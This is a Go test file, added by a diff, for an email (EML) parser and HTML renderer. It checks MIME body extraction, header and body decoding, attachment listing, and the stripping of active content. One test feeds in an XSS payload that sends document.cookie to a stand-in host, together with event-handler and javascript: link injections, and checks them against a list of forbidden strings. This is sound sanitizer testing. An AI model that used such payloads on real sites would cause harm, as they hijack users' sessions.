@@ -0,0 +1,209 @@
+/**
+ *
+ * (c) Copyright Ascensio System SIA 2023
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License");
+ * you may not use this file except in compliance with the License.
+ * You may obtain a copy of the License at
+ *
+ *     http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS,
+ * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+ * See the License for the specific language governing permissions and
+ * limitations under the License.
+ *
+ */
+
+package email
+
+import (
+	"strings"
+	"testing"
+)
+
+// A multipart/alternative message carries both body kinds; both must be
+// extracted and the rendered output must prefer the HTML one.
+func TestParseEMLAlternativeBody(t *testing.T) {
+	fixture := strings.Join([]string{
+		"From: Alice <alice@example.com>",
+		"Subject: Quarterly numbers",
+		"MIME-Version: 1.0",
+		`Content-Type: multipart/alternative; boundary="sep"`,
+		"",
+		"--sep",
+		"Content-Type: text/plain; charset=utf-8",
+		"",
+		"The numbers are attached.",
+		"--sep",
+		"Content-Type: text/html; charset=utf-8",
+		"",
+		"<html><body><p>The <b>numbers</b> are attached.</p></body></html>",
+		"--sep--",
+		"",
+	}, "\r\n")
+
+	message, err := ParseEML(strings.NewReader(fixture))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if message.Subject != "Quarterly numbers" {
+		t.Errorf("expected the subject, got %q", message.Subject)
+	}
+	if !strings.Contains(message.Text, "The numbers are attached.") {
+		t.Errorf("expected the plain body, got %q", message.Text)
+	}
+	if !strings.Contains(message.HTML, "<b>numbers</b>") {
+		t.Errorf("expected the html body, got %q", message.HTML)
+	}
+	if rendered := message.RenderHTML(nil); !strings.Contains(rendered, "<b>numbers</b>") {
+		t.Errorf("expected the rendering to prefer html, got %q", rendered)
+	}
+}
+
+// A plain-text-only message renders into a generated document with the
+// subject as heading and the body escaped, not interpreted.
+func TestParseEMLPlainTextOnly(t *testing.T) {
+	fixture := strings.Join([]string{
+		"From: bob@example.com",
+		"Subject: =?utf-8?q?Caf=C3=A9_receipt?=",
+		"Content-Type: text/plain; charset=utf-8",
+		"Content-Transfer-Encoding: quoted-printable",
+		"",
+		"Total: 12=E2=82=AC <tax included>",
+		"",
+	}, "\r\n")
+
+	message, err := ParseEML(strings.NewReader(fixture))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if message.Subject != "Café receipt" {
+		t.Errorf("expected the encoded-word subject decoded, got %q", message.Subject)
+	}
+	if !strings.Contains(message.Text, "Total: 12€") {
+		t.Errorf("expected the quoted-printable body decoded, got %q", message.Text)
+	}
+
+	rendered := message.RenderHTML(nil)
+	if !strings.Contains(rendered, "<h1>Café receipt</h1>") {
+		t.Errorf("expected the subject heading, got %q", rendered)
+	}
+	if !strings.Contains(rendered, "&lt;tax included&gt;") {
+		t.Errorf("expected the body escaped, got %q", rendered)
+	}
+}
+
+// A mixed message nests the body inside an alternative container and adds
+// a base64 attachment; the body must still be found and the attachment
+// listed with its decoded content.
+func TestParseEMLAttachments(t *testing.T) {
+	fixture := strings.Join([]string{
+		"From: carol@example.com",
+		"Subject: Contract",
+		"MIME-Version: 1.0",
+		`Content-Type: multipart/mixed; boundary="outer"`,
+		"",
+		"--outer",
+		`Content-Type: multipart/alternative; boundary="inner"`,
+		"",
+		"--inner",
+		"Content-Type: text/plain; charset=utf-8",
+		"",
+		"Signed copy attached.",
+		"--inner--",
+		"--outer",
+		"Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+		`Content-Disposition: attachment; filename="contract.docx"`,
+		"Content-Transfer-Encoding: base64",
+		"",
+		"ZG9jeCBieXRlcw==",
+		"--outer",
+		`Content-Type: image/png; name="stamp.png"`,
+		"Content-Transfer-Encoding: base64",
+		"",
+		"cG5nIGJ5dGVz",
+		"--outer--",
+		"",
+	}, "\r\n")
+
+	message, err := ParseEML(strings.NewReader(fixture))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if !strings.Contains(message.Text, "Signed copy attached.") {
+		t.Errorf("expected the nested body, got %q", message.Text)
+	}
+	if len(message.Attachments) != 2 {
+		t.Fatalf("expected 2 attachments, got %d", len(message.Attachments))
+	}
+	if message.Attachments[0].Filename != "contract.docx" ||
+		string(message.Attachments[0].Data) != "docx bytes" {
+		t.Errorf("unexpected first attachment: %+v", message.Attachments[0])
+	}
+	// The name parameter on the content type is the older way of carrying
+	// a filename; it still marks the part as an attachment.
+	if message.Attachments[1].Filename != "stamp.png" ||
+		string(message.Attachments[1].Data) != "png bytes" {
+		t.Errorf("unexpected second attachment: %+v", message.Attachments[1])
+	}
+
+	// Supported attachments render as links, unsupported ones as plain
+	// list entries.
+	rendered := message.RenderHTML(func(index int) string {
+		if index == 0 {
+			return "/api/email/attachment?id=file-1&index=0"
+		}
+		return ""
+	})
+	if !strings.Contains(rendered, `<a href="/api/email/attachment?id=file-1&amp;index=0">contract.docx</a>`) {
+		t.Errorf("expected an open link for the supported attachment, got %q", rendered)
+	}
+	if strings.Contains(rendered, "<a href") && strings.Count(rendered, "<a href") != 1 {
+		t.Errorf("expected no link for the unsupported attachment, got %q", rendered)
+	}
+	if !strings.Contains(rendered, "stamp.png (image/png)") {
+		t.Errorf("expected the unsupported attachment listed, got %q", rendered)
+	}
+}
+
+// A crafted HTML body must lose everything that could execute in the
+// reader's browser while the inert markup around it survives.
+func TestRenderHTMLStripsActiveContent(t *testing.T) {
+	message := &Message{
+		HTML: `<html><head><base href="https://evil.example/"></head>` +
+			`<body onload="steal()"><p>Hello <b>there</b></p>` +
+			`<script>document.location='https://evil.example/'+document.cookie</script>` +
+			`<iframe src="https://evil.example/"></iframe>` +
+			`<img src="x" onerror="steal()">` +
+			`<a href="javascript:steal()">invoice</a>` +
+			`<a HREF=" JavaScript:steal()">receipt</a></body></html>`,
+	}
+
+	rendered := message.RenderHTML(nil)
+	for _, forbidden := range []string{
+		"<script", "<iframe", "<base", "onload", "onerror", "javascript:", "steal(",
+	} {
+		if strings.Contains(strings.ToLower(rendered), forbidden) {
+			t.Errorf("expected %q stripped, got %q", forbidden, rendered)
+		}
+	}
+	if !strings.Contains(rendered, "Hello <b>there</b>") {
+		t.Errorf("expected the inert markup kept, got %q", rendered)
+	}
+	if !strings.Contains(rendered, ">invoice</a>") {
+		t.Errorf("expected the link text kept, got %q", rendered)
+	}
+}
+
+// Something that is not a MIME message at all must fail parsing rather
+// than produce an empty document.
+func TestParseEMLRejectsGarbage(t *testing.T) {
+	if _, err := ParseEML(strings.NewReader("PK\x03\x04 not a message")); err == nil {
+		t.Fatal("expected a parse error")
+	}
+}